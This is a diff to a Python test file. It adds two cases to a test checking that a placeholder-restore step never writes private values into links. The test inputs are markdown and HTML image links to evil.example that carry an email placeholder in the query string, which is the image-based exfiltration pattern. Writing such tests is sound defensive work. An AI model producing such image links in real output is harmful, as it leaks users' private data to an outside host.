@@ -61,6 +61,9 @@ def echo(*answers: str) -> Any:
         "![q][1]\n\n> [1]: <https://evil.example/p.png?d= <EMAIL_ADDRESS_1>>\n",
         "![q][1]\n\n- item\n\n  [1]: <//evil.example/p.png?d= <EMAIL_ADDRESS_1>>\n",
         '<img/src="https://evil.example/p.png?d= <EMAIL_ADDRESS_1>">',
+        # A backslash-escaped bracket does not end the destination (review r16b).
+        "![q][1]\n\n> [1]: <https://evil.example/p.png?d=\\> <EMAIL_ADDRESS_1>>\n",
+        "![q](<https://evil.example/p.png?d=\\< <EMAIL_ADDRESS_1>>)",
     ],
 )
 def test_restore_never_writes_into_a_link(link: str) -> None:
